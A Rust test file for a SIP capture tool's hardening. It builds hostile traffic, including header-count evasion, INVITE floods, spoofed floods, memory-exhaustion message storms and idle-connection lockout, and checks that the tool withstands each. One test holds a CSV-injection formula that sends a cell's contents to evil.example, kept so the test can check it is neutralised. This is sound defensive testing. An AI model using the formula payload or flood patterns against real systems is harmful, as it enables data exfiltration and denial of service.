//! What a sender on the wire can do to the capture side (docs/security.md,
//! "Capture side"): hide a call, exhaust memory or disk, slow the writer,
//! plant spreadsheet formulas. Each test builds the hostile traffic itself
//! and checks the outputs (and tshark's reading of the same capture).

use std::net::Ipv4Addr;
use std::path::Path;

use voxtap_e2e::{import, read_csv, tshark_call_ids};
use voxtap_engine::synth::udp_frame;
use voxtap_proto::pcapio::{LinkType, PcapWriter};

type Ep = (Ipv4Addr, u16);

const ALICE: Ep = (Ipv4Addr::new(10, 0, 0, 1), 5060);
const BOB: Ep = (Ipv4Addr::new(10, 0, 0, 2), 5060);
/// 2026-01-01T00:00:00Z.
const T0: u64 = 1_767_225_600_000_000_000;

/// Writes a capture (Ethernet, UDP) frame by frame, without keeping it.
struct Cap {
    w: PcapWriter<std::io::BufWriter<std::fs::File>>,
    frame: Vec<u8>,
}

impl Cap {
    fn create(path: &Path) -> Self {
        let f = std::io::BufWriter::new(std::fs::File::create(path).unwrap());
        Cap {
            w: PcapWriter::new(f, LinkType::Ethernet, 262_144).unwrap(),
            frame: Vec::new(),
        }
    }

    fn udp(&mut self, ts_ms: u64, src: Ep, dst: Ep, payload: &[u8]) {
        udp_frame(&mut self.frame, src, dst, payload);
        let len = self.frame.len() as u32;
        self.w
            .write_packet(T0 + ts_ms * 1_000_000, len, &self.frame)
            .unwrap();
    }

    fn finish(mut self) {
        self.w.flush().unwrap();
    }
}

/// A SIP message: `start` is "INVITE sip:bob@b" or "200 OK"; `before` are
/// header lines put before every other header; `from_user` names the caller.
fn sip(start: &str, cid: &str, cseq: &str, from_user: &str, before: &str) -> Vec<u8> {
    let line = if start.starts_with(|c: char| c.is_ascii_digit()) {
        format!("SIP/2.0 {start}")
    } else {
        format!("{start} SIP/2.0")
    };
    format!(
        "{line}\r\n{before}Via: SIP/2.0/UDP 10.0.0.1;branch=z9hG4bK{cseq_n}\r\nFrom: <sip:{from_user}@a.example>;tag=1\r\nTo: <sip:bob@b.example>\r\nCall-ID: {cid}\r\nCSeq: {cseq}\r\nContent-Length: 0\r\n\r\n",
        cseq_n = cseq.split(' ').next().unwrap_or("1"),
    )
    .into_bytes()
}

/// INVITE, 200, ACK, BYE, 200 of call `cid`, starting at `t` ms.
fn answered_call(cap: &mut Cap, t: u64, cid: &str, from_user: &str, before: &str) {
    let msgs = [
        (
            ALICE,
            BOB,
            sip(
                "INVITE sip:bob@b.example",
                cid,
                "1 INVITE",
                from_user,
                before,
            ),
        ),
        (
            BOB,
            ALICE,
            sip("200 OK", cid, "1 INVITE", from_user, before),
        ),
        (
            ALICE,
            BOB,
            sip("ACK sip:bob@b.example", cid, "1 ACK", from_user, before),
        ),
        (
            ALICE,
            BOB,
            sip("BYE sip:bob@b.example", cid, "2 BYE", from_user, before),
        ),
        (BOB, ALICE, sip("200 OK", cid, "2 BYE", from_user, before)),
    ];
    for (i, (s, d, m)) in msgs.iter().enumerate() {
        cap.udp(t + i as u64 * 100, *s, *d, m);
    }
}

/// `n` header lines `X-Pad-i: v` (or the shortest `X:1` when `short`).
fn padding(n: usize, short: bool) -> String {
    (0..n)
        .map(|i| {
            if short {
                "X:1\r\n".to_string()
            } else {
                format!("X-Pad-{i:05}: padding-padding\r\n")
            }
        })
        .collect()
}

/// Header-count evasion: 70 headers before Call-ID (more than the 64 spans
/// the parser keeps) used to drop every message of the call; 5,000 short
/// headers before CSeq (a 26 KB datagram a SIP stack takes) made an answered
/// call "in progress". Both calls are recorded as tshark shows them, and the
/// second is counted as oversized (past MAX_HEADER_LINES).
#[test]
fn many_headers_do_not_hide_a_call() {
    let dir = tempfile::tempdir().unwrap();
    let pcap = dir.path().join("headers.pcap");
    let mut cap = Cap::create(&pcap);
    answered_call(&mut cap, 0, "seventy@h", "alice", &padding(70, false));
    answered_call(
        &mut cap,
        1000,
        "five-thousand@h",
        "alice",
        &padding(5000, true),
    );
    cap.finish();
    let want = tshark_call_ids(&pcap);
    assert_eq!(want, ["five-thousand@h", "seventy@h"]);
    let (out, report) = import(std::slice::from_ref(&pcap));
    let calls = read_csv(&out.path().join("calls.csv"));
    let mut got: Vec<&str> = calls.iter().map(|c| c["call_id"].as_str()).collect();
    got.sort();
    assert_eq!(got, want, "calls.csv vs tshark");
    for c in &calls {
        assert_eq!(c["state"], "answered", "{c:?}");
        assert_eq!(c["sip_packets"], "5", "{c:?}");
        let frames = voxtap_e2e::tshark_frames(&out.path().join(&c["pcap"]), None);
        assert_eq!(frames.len(), 5, "{}: call.pcap", c["call_id"]);
    }
    let oversized =
        |id: &str| calls.iter().find(|c| c["call_id"] == id).unwrap()["sip_oversized"].clone();
    assert_eq!(oversized("seventy@h"), "0");
    assert_eq!(oversized("five-thousand@h"), "5");
    assert_eq!(report.stats.sip_oversized, 5);
    assert_eq!(report.stats.sip_errors, 0);
}

/// Past the hard cap of a header section (64 KiB; a SIP stack on TCP may
/// take more), a message is still attributed to its call, and counted.
#[test]
fn an_oversized_message_over_tcp_is_attributed_and_counted() {
    let dir = tempfile::tempdir().unwrap();
    let pcap = dir.path().join("big-tcp.pcap");
    let f = std::io::BufWriter::new(std::fs::File::create(&pcap).unwrap());
    let mut w = PcapWriter::new(f, LinkType::Raw, 262_144).unwrap();
    let a = std::net::SocketAddr::from((ALICE.0, 40000));
    let b = std::net::SocketAddr::from((BOB.0, 5060));
    let invite = sip(
        "INVITE sip:bob@b.example",
        "big-tcp@h",
        "1 INVITE",
        "alice",
        &padding(5000, false),
    );
    assert!(invite.len() > 128 * 1024, "{}", invite.len());
    let ok = sip("200 OK", "big-tcp@h", "1 INVITE", "alice", "");
    let mut frame = Vec::new();
    let mut ts = T0;
    let mut seq = [1u32, 1u32];
    for (from, to, msg, dir) in [(a, b, &invite, 0), (b, a, &ok, 1)] {
        for chunk in msg.chunks(1400) {
            voxtap_proto::wire::emit::build_frame(&mut frame, from, to, Some(seq[dir]), chunk);
            w.write_packet(ts, frame.len() as u32, &frame).unwrap();
            seq[dir] = seq[dir].wrapping_add(chunk.len() as u32);
            ts += 10_000;
        }
    }
    w.flush().unwrap();
    assert_eq!(tshark_call_ids(&pcap), ["big-tcp@h"]);
    let (out, report) = import(std::slice::from_ref(&pcap));
    let calls = read_csv(&out.path().join("calls.csv"));
    assert_eq!(calls.len(), 1, "{calls:?}");
    let c = &calls[0];
    assert_eq!(c["call_id"], "big-tcp@h");
    assert_eq!(c["state"], "answered");
    assert_eq!(c["method"], "INVITE");
    // Every segment of the INVITE is in the call's pcap.
    let segments = invite.len().div_ceil(1400) + 1;
    assert_eq!(c["sip_packets"], segments.to_string());
    assert_eq!(
        voxtap_e2e::tshark_frames(&out.path().join(&c["pcap"]), None).len(),
        segments
    );
    assert_eq!(c["sip_oversized"], "1");
    assert_eq!(report.stats.sip_oversized, 1);
}

/// CSV injection: a From user that is a spreadsheet formula is written as
/// text (a leading `'`) in calls.csv; a plain E.164 number is not touched.
#[test]
fn csv_cells_that_are_formulas_are_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    let pcap = dir.path().join("formula.pcap");
    let mut cap = Cap::create(&pcap);
    // No ':', '?' or ';' (they end a URI's user part); CHAR(58) is ':'.
    let evil = "=HYPERLINK(\"http\"&CHAR(58)&\"//evil.example/\"&A1,\"click\")";
    answered_call(&mut cap, 0, "formula-1@h", evil, "");
    answered_call(&mut cap, 1000, "-2+3@h", "+4930123456", "");
    cap.finish();
    let (out, _) = import(&[pcap]);
    let calls = read_csv(&out.path().join("calls.csv"));
    assert_eq!(calls.len(), 2, "{calls:?}");
    let c = calls
        .iter()
        .find(|c| c["call_id"] == "formula-1@h")
        .unwrap();
    assert_eq!(c["from"], format!("'{evil}"));
    let c = calls.iter().find(|c| c["call_id"] == "'-2+3@h").unwrap();
    assert_eq!(c["from"], "+4930123456");
    // No cell of any CSV we wrote starts a formula.
    for f in ["calls.csv", "streams.csv", "legs.csv"] {
        for row in read_csv(&out.path().join(f)) {
            for v in row.values() {
                assert!(!v.starts_with(['=', '@', '\t', '\r']), "{f}: {v:?}");
            }
        }
    }
}

/// Call-IDs that differ only in punctuation (all sanitised to `____@h`
/// before) get distinct, stable folders, each found again by everything that
/// looks a call's folder up: calls.csv's pcap path, the index's `folder`,
/// sip.txt, and `voxtap media --call` (engine `media::regenerate`). That the
/// naming is O(1) per call is counted in the engine's unit tests
/// (output::streamed, output::naming).
#[test]
fn call_ids_differing_only_in_punctuation_get_their_own_folders() {
    let dir = tempfile::tempdir().unwrap();
    let pcap = dir.path().join("punct.pcap");
    let mut cap = Cap::create(&pcap);
    let p = ['!', '%', '*', '+', '~', '(', ')', '<', '>', '?'];
    let ids: Vec<String> = (0..2000u32)
        .map(|i| {
            let s: String = (0..4)
                .map(|k| p[(i / 10u32.pow(k) % 10) as usize])
                .collect();
            format!("{s}@h")
        })
        .collect();
    for (i, id) in ids.iter().enumerate() {
        let t = i as u64 * 10;
        cap.udp(
            t,
            ALICE,
            BOB,
            &sip("INVITE sip:bob@b.example", id, "1 INVITE", "alice", ""),
        );
        cap.udp(
            t + 5,
            BOB,
            ALICE,
            &sip("486 Busy Here", id, "1 INVITE", "alice", ""),
        );
    }
    cap.finish();
    let (out, _) = import(std::slice::from_ref(&pcap));
    let calls = read_csv(&out.path().join("calls.csv"));
    assert_eq!(calls.len(), ids.len());
    let folders: std::collections::BTreeSet<String> = calls
        .iter()
        .map(|c| c["pcap"].trim_end_matches("/call.pcap").to_string())
        .collect();
    assert_eq!(folders.len(), ids.len(), "one folder per call");
    for c in &calls {
        let id = c["call_id"].trim_start_matches('\'');
        let folder = out.path().join(c["pcap"].trim_end_matches("/call.pcap"));
        assert!(folder.starts_with(out.path()) && folder.join("call.pcap").exists());
        let sip = std::fs::read_to_string(folder.join("sip.txt")).unwrap();
        assert!(sip.contains(&format!("Call-ID: {id}\r\n")), "{id}");
        // Readable: the name starts with the sanitised Call-ID.
        let name = folder.file_name().unwrap().to_str().unwrap();
        assert!(name.starts_with("c____@h-"), "{name}");
    }
    // The index names the same folders.
    let index = voxtap_engine::index::Index::open(&out.path().join("index.sqlite")).unwrap();
    let mut indexed = std::collections::BTreeSet::new();
    for page in 0..2u64 {
        let q = voxtap_engine::index::CallQuery {
            limit: 1000,
            offset: page * 1000,
            ..Default::default()
        };
        for r in index.search(&q).unwrap().rows {
            let f = r.folder.unwrap();
            assert_eq!(r.pcap.as_deref(), Some(format!("{f}/call.pcap").as_str()));
            indexed.insert(f);
        }
    }
    assert_eq!(indexed, folders);
    // `voxtap media --call` finds a call by its Call-ID, also as calls.csv
    // shows it when it starts like a formula.
    for id in [ids[7].as_str(), "+!!!@h", "'+!!!@h"] {
        voxtap_engine::media::regenerate(out.path(), id, &Default::default(), Default::default())
            .unwrap_or_else(|e| panic!("{id}: {e}"));
    }
}

/// Set in a child run of this test binary: the import to run and measure.
const CHILD: &str = "VOXTAP_HARDENING_CHILD_IMPORT";

/// Limits an RSS test imports with.
#[derive(Clone, Copy)]
struct Limits {
    call_sip_bytes: usize,
    memory_bytes: usize,
    flood_invites_per_s: u32,
}

/// In a child run (see [`peak_rss`]): imports as `voxtap import` does
/// (call folders, media step), prints the peak RSS and returns true.
fn child_import() -> bool {
    let Ok(spec) = std::env::var(CHILD) else {
        return false;
    };
    let f: Vec<&str> = spec.split('\t').collect();
    let mut pipeline = voxtap_engine::pipeline::PipelineConfig::default();
    pipeline.calls.call_sip_bytes = f[2].parse().unwrap();
    pipeline.calls.memory_bytes = f[3].parse().unwrap();
    pipeline.calls.flood_invites_per_s = f[4].parse().unwrap();
    voxtap_engine::import::run_import(&voxtap_engine::import::ImportOptions {
        files: vec![f[0].into()],
        out: f[1].into(),
        pipeline,
        call_files: true,
        media: Some(Default::default()),
    })
    .unwrap();
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let hwm = status.lines().find(|l| l.starts_with("VmHWM:")).unwrap();
    println!("CHILD {hwm}");
    true
}

/// Peak RSS (VmHWM) in bytes of an import of `pcap` into `out` with
/// `limits`, in a fresh process: this test binary run again for test
/// `test`, which calls [`child_import`] first.
fn peak_rss(test: &str, pcap: &Path, out: &Path, l: Limits) -> u64 {
    let spec = format!(
        "{}\t{}\t{}\t{}\t{}",
        pcap.display(),
        out.display(),
        l.call_sip_bytes,
        l.memory_bytes,
        l.flood_invites_per_s
    );
    // The test's name in this binary: "hardening::NAME".
    let module = module_path!().split_once("::").map_or("", |m| m.1);
    let test = format!("{module}::{test}");
    let o = std::process::Command::new(std::env::current_exe().unwrap())
        .args([test.as_str(), "--exact", "--nocapture", "--test-threads=1"])
        .env(CHILD, spec)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&o.stdout);
    assert!(
        o.status.success(),
        "{stdout}\n{}",
        String::from_utf8_lossy(&o.stderr)
    );
    // libtest's "test name ... " may precede it on the same line.
    let line = stdout
        .lines()
        .find_map(|l| l.split_once("CHILD VmHWM:").map(|x| x.1))
        .unwrap_or_else(|| panic!("no peak RSS from the child: {stdout}"));
    let kb: u64 = line.trim().trim_end_matches("kB").trim().parse().unwrap();
    kb * 1024
}

/// Peak RSS of importing one ordinary call: what any import costs.
fn baseline_rss(test: &str, dir: &Path, l: Limits) -> u64 {
    let pcap = dir.join("one.pcap");
    let mut cap = Cap::create(&pcap);
    answered_call(&mut cap, 0, "one@h", "alice", "");
    cap.finish();
    peak_rss(test, &pcap, &dir.join("one"), l)
}

const MIB: u64 = 1 << 20;

/// One Call-ID with 4,000 INFO messages of 60 KB (240 MB of SIP): the
/// import's peak RSS stays within a few times the call's SIP budget over
/// what importing one small call costs (718 MB before). The call's pcap has
/// every message; sip.txt and the index have the text within the budget,
/// and the call is flagged.
#[test]
fn big_sip_messages_are_held_to_the_budget() {
    if child_import() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let l = Limits {
        call_sip_bytes: 4 << 20,
        memory_bytes: 1 << 30,
        flood_invites_per_s: 100,
    };
    let base = baseline_rss("big_sip_messages_are_held_to_the_budget", dir.path(), l);
    let pcap = dir.path().join("info.pcap");
    let mut cap = Cap::create(&pcap);
    let cid = "info-storm@h";
    cap.udp(
        0,
        ALICE,
        BOB,
        &sip("INVITE sip:bob@b.example", cid, "1 INVITE", "alice", ""),
    );
    cap.udp(10, BOB, ALICE, &sip("200 OK", cid, "1 INVITE", "alice", ""));
    let pad = "x".repeat(60_000);
    for i in 0..4000u64 {
        let m = format!(
            "INFO sip:bob@b.example SIP/2.0\r\nVia: SIP/2.0/UDP 10.0.0.1;branch=z9hG4bKi{i}\r\nFrom: <sip:alice@a.example>;tag=1\r\nTo: <sip:bob@b.example>;tag=2\r\nCall-ID: {cid}\r\nCSeq: {} INFO\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n\r\n{pad}",
            i + 2,
            pad.len()
        );
        cap.udp(20 + i, ALICE, BOB, m.as_bytes());
    }
    cap.udp(
        5000,
        ALICE,
        BOB,
        &sip("BYE sip:bob@b.example", cid, "4002 BYE", "alice", ""),
    );
    cap.finish();
    let out = dir.path().join("out");
    let rss = peak_rss("big_sip_messages_are_held_to_the_budget", &pcap, &out, l);
    let bound = base + 8 * l.call_sip_bytes as u64;
    println!(
        "4,000 x 60 KB INFO: peak RSS {} MiB (one small call: {} MiB; bound {} MiB)",
        rss / MIB,
        base / MIB,
        bound / MIB
    );
    assert!(
        rss < bound,
        "peak RSS {} MiB over {} MiB",
        rss / MIB,
        bound / MIB
    );
    let calls = read_csv(&out.join("calls.csv"));
    assert_eq!(calls.len(), 1);
    let c = &calls[0];
    assert_eq!(c["sip_packets"], "4003");
    let truncated: u64 = c["sip_truncated"].parse().unwrap();
    assert!(truncated > 3900, "{truncated}");
    let frames = voxtap_e2e::tshark_frames(&out.join(&c["pcap"]), None);
    assert_eq!(frames.len(), 4003, "call.pcap has every message");
    let sip_txt =
        std::fs::read_to_string(out.join(c["pcap"].replace("call.pcap", "sip.txt"))).unwrap();
    assert!(sip_txt.len() < 2 * l.call_sip_bytes, "{}", sip_txt.len());
    assert!(sip_txt.contains("not kept: over the call's SIP budget"));
}

/// 100,000 INVITEs without any response from one source (a 25 MB capture;
/// 415 MB and 2.1 GB of call folders before): the first second's are
/// recorded, the rest summarised in one row of floods.csv, and the peak RSS
/// stays near that of a small import.
#[test]
fn an_unanswered_invite_flood_is_summarised() {
    if child_import() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let l = Limits {
        call_sip_bytes: 1 << 20,
        memory_bytes: 1 << 30,
        flood_invites_per_s: 100,
    };
    let base = baseline_rss("an_unanswered_invite_flood_is_summarised", dir.path(), l);
    let pcap = dir.path().join("flood.pcap");
    let mut cap = Cap::create(&pcap);
    let scanner = (Ipv4Addr::new(203, 0, 113, 7), 5060);
    for i in 0..100_000u64 {
        let cid = format!("{i:08x}-flood@scanner");
        cap.udp(
            i,
            scanner,
            BOB,
            &sip("INVITE sip:100@b.example", &cid, "1 INVITE", "100", ""),
        );
    }
    cap.finish();
    let size = std::fs::metadata(&pcap).unwrap().len();
    let out = dir.path().join("out");
    let rss = peak_rss("an_unanswered_invite_flood_is_summarised", &pcap, &out, l);
    let bound = base + 32 * MIB;
    println!(
        "100,000 unanswered INVITEs ({} MB pcap): peak RSS {} MiB (one small call: {} MiB; bound {} MiB)",
        size / 1_000_000,
        rss / MIB,
        base / MIB,
        bound / MIB
    );
    assert!(
        rss < bound,
        "peak RSS {} MiB over {} MiB",
        rss / MIB,
        bound / MIB
    );
    let calls = read_csv(&out.join("calls.csv"));
    assert_eq!(calls.len(), 100);
    let folders = std::fs::read_dir(&out)
        .unwrap()
        .flatten()
        .filter(|e| e.path().is_dir())
        .count();
    assert_eq!(folders, 100);
    let floods = read_csv(&out.join("floods.csv"));
    assert_eq!(floods.len(), 1, "{floods:?}");
    let f = &floods[0];
    assert_eq!(
        (f["source"].as_str(), f["method"].as_str()),
        ("203.0.113.7", "INVITE")
    );
    assert_eq!(
        (f["reason"].as_str(), f["dialogs"].as_str()),
        ("unanswered_rate", "99900")
    );
    assert_eq!(
        f["first"],
        voxtap_engine::output::format_ts(T0 + 100 * 1_000_000)
    );
    assert_eq!(
        f["last"],
        voxtap_engine::output::format_ts(T0 + 99_999 * 1_000_000)
    );
}

/// The same flood from 100,000 different addresses (spoofed): no source is
/// over the rate, so the memory budget holds it: calls are recorded until
/// the open calls reach it, the rest summarised per source. The bound on
/// the peak RSS is the budget for the open calls, what the import keeps per
/// recorded call to sort calls.csv, and slack for the allocator.
#[test]
fn a_spoofed_flood_is_held_to_the_memory_budget() {
    if child_import() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let l = Limits {
        call_sip_bytes: 1 << 20,
        memory_bytes: 16 << 20,
        flood_invites_per_s: 100,
    };
    let base = baseline_rss(
        "a_spoofed_flood_is_held_to_the_memory_budget",
        dir.path(),
        l,
    );
    let pcap = dir.path().join("spoofed.pcap");
    let mut cap = Cap::create(&pcap);
    for i in 0..100_000u32 {
        let src = (Ipv4Addr::from(0x0a40_0000 + i), 5060);
        let cid = format!("{i:08x}-spoofed@h");
        // A thousand a second: every call is still open (idle timeout
        // 300 s) when the capture ends.
        cap.udp(
            u64::from(i),
            src,
            BOB,
            &sip("INVITE sip:100@b.example", &cid, "1 INVITE", "100", ""),
        );
    }
    cap.finish();
    let out = dir.path().join("out");
    let rss = peak_rss(
        "a_spoofed_flood_is_held_to_the_memory_budget",
        &pcap,
        &out,
        l,
    );
    let bound = base + 4 * l.memory_bytes as u64;
    println!(
        "100,000 INVITEs from 100,000 sources: peak RSS {} MiB (one small call: {} MiB; bound {} MiB)",
        rss / MIB,
        base / MIB,
        bound / MIB
    );
    assert!(
        rss < bound,
        "peak RSS {} MiB over {} MiB",
        rss / MIB,
        bound / MIB
    );
    let calls = read_csv(&out.join("calls.csv")).len();
    let floods = read_csv(&out.join("floods.csv"));
    let summarised: usize = floods
        .iter()
        .map(|f| f["dialogs"].parse::<usize>().unwrap())
        .sum();
    assert!(floods.iter().all(|f| f["reason"] == "memory_budget"));
    assert_eq!(
        calls + summarised,
        100_000,
        "every INVITE recorded or summarised"
    );
    assert!(calls > 1000 && calls < 50_000, "{calls} recorded");
    println!(
        "  {calls} calls recorded, {summarised} summarised in {} rows",
        floods.len()
    );
}

/// A HEP3 packet carrying SIP `payload` from ALICE to BOB.
fn hep_sip(payload: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    voxtap_proto::hep::HepFields {
        src: std::net::SocketAddr::from(ALICE),
        dst: std::net::SocketAddr::from(BOB),
        ip_proto: 17,
        ts_ns: T0,
        proto_type: voxtap_proto::hep::proto_type::SIP,
        capture_id: 1,
        auth_key: b"",
        correlation_id: b"",
        payload,
    }
    .encode(&mut out)
    .unwrap();
    out
}

/// Waits (up to 20 s) until `cond` holds, checking every few milliseconds.
fn wait_for(what: &str, mut cond: impl FnMut() -> bool) {
    let t = std::time::Instant::now();
    while !cond() {
        assert!(
            t.elapsed() < std::time::Duration::from_secs(20),
            "timed out waiting for {what}"
        );
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
}

/// 256 idle TCP connections (every slot the listener had, none ever timed
/// out) used to make it reset every further connection, so a real sender's
/// SIP was lost. Now the connection idle the longest makes room for a new
/// one: the real sender's INVITE arrives and becomes a call.
#[test]
fn idle_hep_connections_do_not_lock_out_a_real_sender() {
    use std::io::Write;
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, Ordering};
    use voxtap_sensor::hep::listen::{ListenOptions, Listener};

    let out = tempfile::tempdir().unwrap();
    let listener = Listener::bind(ListenOptions {
        udp: None,
        tcp: Some("127.0.0.1:0".parse().unwrap()),
        out: out.path().to_path_buf(),
        pipeline: Default::default(),
        call_files: true,
        auth_key: None,
        status: false,
    })
    .unwrap();
    let addr = listener.tcp_addr().unwrap();
    let counters = listener.counters();
    let stop = Arc::new(AtomicBool::new(false));
    let run = {
        let stop = Arc::clone(&stop);
        std::thread::spawn(move || listener.run(stop))
    };
    let idle: Vec<std::net::TcpStream> = (0..256)
        .map(|_| std::net::TcpStream::connect(addr).unwrap())
        .collect();
    wait_for("256 idle connections accepted", || {
        counters.snapshot().tcp_connections == 256
    });
    let mut real = std::net::TcpStream::connect(addr).unwrap();
    real.write_all(&hep_sip(&sip(
        "INVITE sip:bob@b.example",
        "real@h",
        "1 INVITE",
        "alice",
        "",
    )))
    .unwrap();
    wait_for("the real sender's SIP", || counters.snapshot().sip == 1);
    stop.store(true, Ordering::Relaxed);
    let report = run.join().unwrap().unwrap();
    println!("{report:?}");
    let calls = read_csv(&out.path().join("calls.csv"));
    assert_eq!(calls.len(), 1);
    assert_eq!(calls[0]["call_id"], "real@h");
    drop(idle);
}
